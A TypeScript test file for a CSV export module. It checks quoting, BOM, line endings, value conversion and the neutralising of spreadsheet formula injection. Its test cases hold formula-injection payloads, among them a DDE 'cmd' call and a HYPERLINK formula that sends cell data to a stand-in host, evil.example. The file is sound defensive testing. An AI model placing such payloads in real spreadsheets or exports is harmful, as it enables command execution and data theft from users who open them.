import t from 'tap';
import fc from 'fast-check';
import { parse } from 'csv-parse/sync';
import { BOM, csvCell, csvLines, csvRow, type CsvSeparator } from '../../src/reports/csv.js';

async function collect(lines: AsyncIterable<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const line of lines) out.push(line);
  return out;
}

const parseCsv = (text: string, delimiter: CsvSeparator): string[][] =>
  parse(text, { delimiter, bom: true, relax_column_count: false });

const HEADER = ['Nom', 'Prénom', 'Structure', 'Commentaire'];
const ROWS: unknown[][] = [
  ['Lefèvre', 'Zoé', "Fournisseur d'énergie", 'Dit : "bonjour"'],
  ['Müller; Dupont', 'Ève', 'Collectivité', 'ligne 1\nligne 2'],
  ['O"Brien', 'Anaïs, Noé', 'CCAS', 'retour\r\nchariot'],
  ['Œuvre', '', 'Bailleur social', '   espaces   '],
];

t.test('round trip through csv-parse with ";" (accents, quotes, separators, newlines)', async (t) => {
  const lines = await collect(csvLines(HEADER, ROWS, ';'));
  t.equal(lines.length, ROWS.length + 1);
  t.ok(lines[0].startsWith(BOM), 'BOM first');
  t.equal(BOM, '\uFEFF');
  t.ok(
    lines.slice(1).every((line) => !line.includes(BOM)),
    'BOM only once',
  );
  t.ok(
    lines.every((line) => line.endsWith('\r\n')),
    'CRLF line ends',
  );
  const text = lines.join('');
  t.same(parseCsv(text, ';'), [HEADER, ...ROWS]);
  t.equal(
    lines[1],
    'Lefèvre;Zoé;Fournisseur d\'énergie;"Dit : ""bonjour"""\r\n',
    'only the cell that needs it is quoted',
  );
  t.equal(lines[2].split('\r\n')[0], '"Müller; Dupont";Ève;Collectivité;"ligne 1\nligne 2"');
});

t.test('"," variant', async (t) => {
  const lines = await collect(csvLines(HEADER, ROWS, ','));
  const text = lines.join('');
  t.same(parse(text, { delimiter: ',', bom: true }), [HEADER, ...ROWS]);
  t.equal(csvCell('Anaïs, Noé', ','), '"Anaïs, Noé"');
  t.equal(csvCell('Anaïs, Noé', ';'), '"Anaïs, Noé"', '"," is quoted with ";" too');
  t.equal(csvCell('a;b', ','), '"a;b"', '";" is quoted with "," too');
  t.throws(() => csvCell('x', '\t' as CsvSeparator), RangeError);
});

t.test('a cell holding either separator is quoted, so no spreadsheet splits it into a formula', async (t) => {
  const cells = ["ok,=cmd|' /C calc'!A0", 'Acme;=1+2', 'a,b;c', '=1+2;x'];
  for (const written of [';', ','] as const) {
    const text = (
      await collect(
        csvLines(
          ['x', 'y'],
          cells.map((cell, i) => [cell, i]),
          written,
        ),
      )
    ).join('');
    const rows = parse(text, { delimiter: written, bom: true }) as string[][];
    t.same(
      rows.slice(1).map((row) => row[0]),
      cells.map((cell) => (cell.startsWith('=') ? `'${cell}` : cell)),
      `written with ${JSON.stringify(written)}, read back intact`,
    );
    const other = written === ';' ? ',' : ';';
    for (const cell of cells) {
      // A spreadsheet guessing the other separator: the cell stays whole, nothing starts with a formula.
      const [split] = parse(`${csvCell(cell, written)}\r\n`, { delimiter: other }) as string[][];
      t.equal(split.length, 1, `${JSON.stringify(cell)} written with ${written} is one cell read with ${other}`);
      t.notOk(['=', '+', '-', '@'].includes(split[0].charAt(0)), 'and does not start a formula');
    }
  }
  t.equal(csvCell('Acme;=1+2', ','), '"Acme;=1+2"');
  t.equal(csvCell("ok,=cmd|' /C calc'!A0", ';'), `"ok,=cmd|' /C calc'!A0"`);
});

t.test('formula injection neutralised (OWASP)', async (t) => {
  for (const first of ['=', '+', '-', '@', '\t', '\r']) {
    const payload = `${first}HYPERLINK("http://evil.example/?"&A1;"clic")`;
    for (const separator of [';', ','] as const) {
      const cell = csvCell(payload, separator);
      const [[parsed]] = parse(`${cell}\r\n`, { delimiter: separator });
      t.equal(
        parsed,
        `'${payload}`,
        `${JSON.stringify(first)} with ${JSON.stringify(separator)}: apostrophe prefix, content intact`,
      );
    }
  }
  t.equal(csvCell('=1+1', ';'), "'=1+1");
  t.equal(csvCell('@SUM(A1)', ';'), "'@SUM(A1)");
  t.equal(csvCell('\t=1', ';'), "'\t=1");
  t.equal(csvCell('\r=1', ';'), '"\'\r=1"', 'CR: prefixed and quoted');
  t.equal(csvCell(['=cmd', 'x'], ';'), "'=cmd | x", 'arrays: the joined text is checked');
  t.equal(csvCell('a=1', ';'), 'a=1', 'only the first character matters');
  t.equal(csvCell(' =1', ';'), ' =1');
  t.equal(csvCell('', ';'), '');
  t.equal(csvCell(-5, ';'), '-5', 'numbers are data, not formulas');
  t.equal(csvCell(-1.5, ','), '-1.5');
  t.equal(csvCell(-5n, ';'), '-5');
  t.equal(csvCell('-5', ';'), "'-5", 'text that looks like a number is still text');
  t.equal(csvCell('\uFF1D1+1', ';'), "'\uFF1D1+1", 'full-width = too');

  fc.assert(
    fc.property(fc.string({ maxLength: 30 }), (text) => {
      const parsed = parse(`${csvCell(text, ';')}\r\n`, { delimiter: ';', relax_quotes: false })[0]?.[0] ?? '';
      return !['=', '+', '-', '@', '\t', '\r'].includes(parsed.charAt(0));
    }),
    { numRuns: 1000 },
  );
});

t.test('value conversions', async (t) => {
  t.equal(csvCell(null, ';'), '');
  t.equal(csvCell(undefined, ';'), '');
  t.equal(csvCell(new Date('2013-11-21T09:30:00+01:00'), ';'), '2013-11-21T08:30:00.000Z', 'Date → ISO 8601 UTC');
  t.equal(csvCell(new Date('invalid'), ';'), '');
  t.equal(csvCell(['atelier A', 'atelier B'], ';'), 'atelier A | atelier B');
  t.equal(csvCell(['a;b', null, new Date(0), ['x', 'y']], ';'), '"a;b |  | 1970-01-01T00:00:00.000Z | x | y"');
  t.equal(csvCell([], ';'), '');
  t.equal(csvCell(42, ';'), '42');
  t.equal(csvCell(Number.NaN, ';'), '');
  t.equal(csvCell(Number.POSITIVE_INFINITY, ';'), '');
  t.equal(csvCell(true, ';'), 'true');
  t.equal(csvCell({ a: 1, b: 'x;y' }, ';'), '"{""a"":1,""b"":""x;y""}"');
  t.equal(csvCell('Élodie', ';'), 'Élodie');
});

t.test('csvRow', async (t) => {
  t.equal(csvRow(['a', 1, null, 'b;c'], ';'), 'a;1;;"b;c"\r\n');
  t.equal(csvRow([], ';'), '\r\n');
  t.equal(csvRow(['x'], ','), 'x\r\n');
});

t.test('csvLines streams from async iterables', async (t) => {
  let produced = 0;
  async function* source(): AsyncGenerator<unknown[]> {
    for (let i = 0; i < 3; i++) {
      produced += 1;
      yield [i, `ligne ${i}`];
    }
  }
  const iterator = csvLines(['n', 'texte'], source(), ';')[Symbol.asyncIterator]();
  const first = await iterator.next();
  t.equal(first.value, `${BOM}n;texte\r\n`);
  t.equal(produced, 0, 'the header is yielded before any row is read');
  const second = await iterator.next();
  t.equal(second.value, '0;ligne 0\r\n');
  t.equal(produced, 1, 'rows are pulled one at a time');
  const rest = [];
  for (let r = await iterator.next(); !r.done; r = await iterator.next()) rest.push(r.value);
  t.same(rest, ['1;ligne 1\r\n', '2;ligne 2\r\n']);

  t.same(
    await collect(csvLines(['=danger'], [], ';')),
    [`${BOM}'=danger\r\n`],
    'header cells are neutralised too; no rows',
  );
});

t.test('property: any table round-trips', async (t) => {
  const cell = fc.string({
    maxLength: 20,
    unit: fc.constantFrom(
      'a',
      'é',
      'Œ',
      ' ',
      ';',
      ',',
      '"',
      "'",
      '\r',
      '\n',
      '\r\n',
      '=',
      '+',
      '-',
      '@',
      '\t',
      '😀',
      '|',
    ),
  });
  const dangerous = (text: string): boolean => ['=', '+', '-', '@', '\t', '\r'].includes(text.charAt(0));
  await fc.assert(
    fc.asyncProperty(
      fc
        .integer({ min: 1, max: 5 })
        .chain((width) =>
          fc.tuple(
            fc.constant(width),
            fc.array(fc.array(cell, { minLength: width, maxLength: width }), { maxLength: 8 }),
          ),
        ),
      fc.constantFrom<CsvSeparator>(';', ','),
      async ([width, rows], separator) => {
        const header = Array.from({ length: width }, (_, i) => `col${i}`);
        const text = (await collect(csvLines(header, rows, separator))).join('');
        const parsed = parse(text, { delimiter: separator, bom: true }) as string[][];
        const expected = [header, ...rows.map((row) => row.map((value) => (dangerous(value) ? `'${value}` : value)))];
        return JSON.stringify(parsed) === JSON.stringify(expected);
      },
    ),
    { numRuns: 500 },
  );
  t.pass();
});
